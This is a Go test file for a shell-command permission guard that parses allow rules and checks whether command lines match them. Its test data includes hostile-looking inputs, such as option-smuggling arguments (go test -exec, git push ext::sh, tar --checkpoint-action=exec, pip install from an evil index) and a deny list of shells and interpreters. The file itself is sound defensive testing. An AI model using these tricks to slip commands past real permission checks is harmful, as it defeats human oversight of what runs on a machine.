package shellguard

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/toolcrib/toolcrib/internal/shellguard/shelltest"
)

func TestParseRule(t *testing.T) {
	for _, tt := range []struct {
		text string
		want Rule
	}{
		{"git status", Rule{Words: []string{"git", "status"}}},
		{"  git   status  ", Rule{Words: []string{"git", "status"}}},
		{"npm run *", Rule{Words: []string{"npm", "run"}, Open: true}},
		{"npm run:*", Rule{Words: []string{"npm", "run"}, Open: true}},
		{"ls *", Rule{Words: []string{"ls"}, Open: true}},
		{"go test ./...", Rule{Words: []string{"go", "test", "./..."}}},
		{"git commit -m 'a b'", Rule{Words: []string{"git", "commit", "-m", "a b"}}},
		{"/usr/bin/git status", Rule{Words: []string{"/usr/bin/git", "status"}}},
		{"python3 scripts/check.py *", Rule{Words: []string{"python3", "scripts/check.py"}, Open: true}},
	} {
		got, err := ParseRule(tt.text)
		if err != nil {
			t.Errorf("%q: %v", tt.text, err)
			continue
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("%q:\n%s", tt.text, diff)
		}
		again, err := ParseRule(got.String())
		if err != nil || !cmp.Equal(got, again) {
			t.Errorf("%q is written as %q, which is read as %v (%v)", tt.text, got, again, err)
		}
	}
}

func TestParseRuleRefuses(t *testing.T) {
	for _, text := range []string{
		"", "*", " *", ":*", "ls*", "git * main", "g* status", "ls; rm", "ls | cat", "ls && x", "ls > f", "ls &", "! ls", "$x", "ls $x", "ls $(x)", "A=1 ls", "ls ~", "ls {a,b}", "(ls)", "ls\nrm", "ls \x00",
		"sh *", "bash *", "bash -c *", "python3 *", "python3 -c *", "python *", "node *", "node -e *", "perl *", "perl -e *", "ruby -e *", "docker *", "kubectl *", "npx *", "vim *", "less *",
		"env *", "env ls", "sudo *", "sudo ls", "xargs *", "timeout 5 ls", "nohup *", "ssh host *", "busybox *", "watch *", "nice *", "command *", "eval *", "exec *", "cd *", "echo *", "export *", "source *",
		"./script.sh", "../x *", "bin/x", "/usr/bin/../bin/ls", "/usr//bin/ls", "лs *",
	} {
		if r, err := ParseRule(text); err == nil {
			t.Errorf("%q is taken for the rule %q", text, r)
		}
	}
	_, err := ParseRules([]string{"ls *", "sh *", "x > y"})
	if err == nil || !strings.Contains(err.Error(), "sh *") || !strings.Contains(err.Error(), "x > y") {
		t.Errorf("the error does not name every bad rule: %v", err)
	}
}

func TestRuleMatch(t *testing.T) {
	for _, tt := range []struct {
		rule, line string
		want       bool
	}{
		{"make build", "make build", true},
		{"make build", "make build deploy", false},
		{"make build", "make 'build'", true},
		{"make build", "make buil", false},
		{"make *", "make build deploy", true},
		{"make *", "make -j4 build", true},
		{"make *", "make -f evil", false},
		{"make *", "make SHELL=./evil", false},
		{"make -f other.mk *", "make -f other.mk build", false}, // the form knows no -f: write it out
		{"make -f other.mk build", "make -f other.mk build", true},
		{"go test *", "go test", true},
		{"go test *", "go test -v -run 'A|B' ./...", true},
		{"go test *", "go test -exec ./evil ./...", false},
		{"go test ./...", "go test ./...", true},
		{"go test ./...", "go test -v ./...", true},
		{"npm run *", "npm run build", true},
		{"npm run *", "npm run build --prefix x", false},
		{"npm run *", "npm test", false},
		{"git commit *", "git commit -am 'x y'", true},
		{"git commit *", "git -c a.b=c commit -m x", false},
		{"git push *", "git push -u origin main", true},
		{"git push *", "git push --receive-pack=x", false},
		{"git push *", "git push ext::sh main", false},
		{"/usr/bin/git commit *", "git commit -m x", true},
		{"/bin/git commit *", "git commit -m x", false},
		{"git commit *", "/usr/bin/git commit -m x", true},
		{"git commit *", "/tmp/git commit -m x", false},
		{"git commit *", "./git commit -m x", false},
		{"rm build", "rm build", true},
		{"rm build", "/bin/rm build", true},
		{"rm build", "rm $x", false},
		{"rm build", "echo $(rm build)", false}, // in a substitution
		{"rm *", "xargs rm build", false},
		{"rm *", "find . -exec rm {} +", false},
		{"rm *", "f() { rm x; }; f", false},
		{"rm *", "timeout 5 rm x", true},
		{"rm *", "rm *.o", false},       // may become options
		{"rm *", "rm ./*.o", true},      // may not
		{"rm *", "rm -rf build", false}, // nobody here knows its options
		{"rm -rf *", "rm -rf build", true},
		{"mytool *", "mytool sub a", true},
		{"mytool *", "mytool sub --verbose a", false},
		{"mytool sub --verbose *", "mytool sub --verbose a", true},
		{"mytool *", "mytool --exec=x", false},
		{"mytool *", "mytool -exec x", false},
		{"mytool *", "mytool --conf x", false},
		{"mytool --config x.yaml *", "mytool --config x.yaml a", true},
		{"sed *", "sed -i s/a/b/ x", false},
		{"sed -i s/a/b/ x", "sed -i s/a/b/ x", true},
		{"find *", "find . -delete", false},
		{"curl *", "curl -s http://x", true},
		{"curl *", "curl -o f http://x", false},
		{"curl *", "curl -so f http://x", false},
		{"curl *", "curl --outp f http://x", false},
		{"tar -xzf *", "tar -xzf a.tar", true},
		{"tar -xzf *", "tar -xzf a.tar -I ./x", false},
		{"tar -xf *", "tar -xf host:a.tar", false},
		{"tar -cf *", "tar -cf x . --checkpoint-action=exec=x", false},
		{"rsync -a *", "rsync -a a b", true},
		{"rsync -a *", "rsync -a a b -e ./x", false},
		{"cmake *", "cmake -P evil.cmake", false},
		{"pip install *", "pip install requests", true},
		{"pip install *", "pip install -i http://evil requests", false},
		{"pip install *", "pip install --index-url=http://evil x", false},
		{"python3 x.py *", "python3 x.py --verbose", true},
		{"python3 x.py *", "python3 -c pass", false},
		{"python3 -m pytest x *", "python3 -m pytest x -p evil", false},
		{"gcc *", "gcc -fplugin=./evil.so x.c", false},
		{"gcc *", "gcc @opts", false},
		{"docker compose up *", "docker compose up -d", true},
		{"docker compose up *", "docker compose up -f evil.yml", false},
		{"wget *", "wget --use-askpass=./evil http://x", false},
		{"gradle build *", "gradle build --init-script evil", false},
	} {
		r, err := ParseRule(tt.rule)
		if err != nil {
			t.Errorf("%q: %v", tt.rule, err)
			continue
		}
		l := Analyze(tt.line, optionsOn(shelltest.NewMachine()))
		got := false
		for i := range l.Programs {
			got = got || r.Match(&l.Programs[i])
		}
		if got != tt.want {
			t.Errorf("rule %q, line %q: match is %v; %v", tt.rule, tt.line, got, l.Explain())
		}
	}
}

// TestRuleNeverMatchesOtherProgram: a rule for one word of a line says nothing
// about the others.
func TestRuleNeverMatchesOtherProgram(t *testing.T) {
	s := shellOn(t, shelltest.NewMachine())
	for _, line := range []string{"make build && touch x", "make build; rm x", "make build | tee x", "make build > x", "touch x && make build", "sh -c 'make build; touch x'", "timeout 5 make build & touch x"} {
		if v := shelltest.Judge(t, s, line); v.Decision.String() != "ask" {
			t.Errorf("%q is judged %v", line, v.Decision)
		}
	}
	for _, line := range []string{"make build", "make build && make test", "make build 2>&1 | tail -5", "cd src && make build", "timeout 60 make build"} {
		if v := shelltest.Judge(t, s, line); v.Decision.String() != "allow" {
			t.Errorf("%q is judged %v: %s", line, v.Decision, v.Reason)
		}
	}
}
